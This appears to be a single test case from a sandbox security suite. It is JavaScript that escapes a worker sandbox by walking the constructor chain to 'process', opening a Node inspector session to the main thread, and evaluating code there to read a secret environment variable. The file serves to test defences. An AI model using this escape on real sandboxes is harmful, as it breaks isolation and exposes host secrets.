import { attack } from '../attack.ts';

/** An inspector session connects from a worker to the main thread, and evaluates there. */
export const escape = attack({
	grants: [],
	source: `
		const host = reach();
		const inspector = host?.constructor.constructor('return process')().getBuiltinModule('inspector');
		if (!inspector) return;
		const session = new inspector.Session();
		try { session.connectToMainThread(); } catch (error) { return error.code; }
		return await new Promise((done) => { session.post('Runtime.evaluate', { expression: 'process.env.GLOVEBOX_SECRET || hostSecret' }, (_error, answer) => done(answer?.result?.value)); setTimeout(done, 1000); });
	`,
});
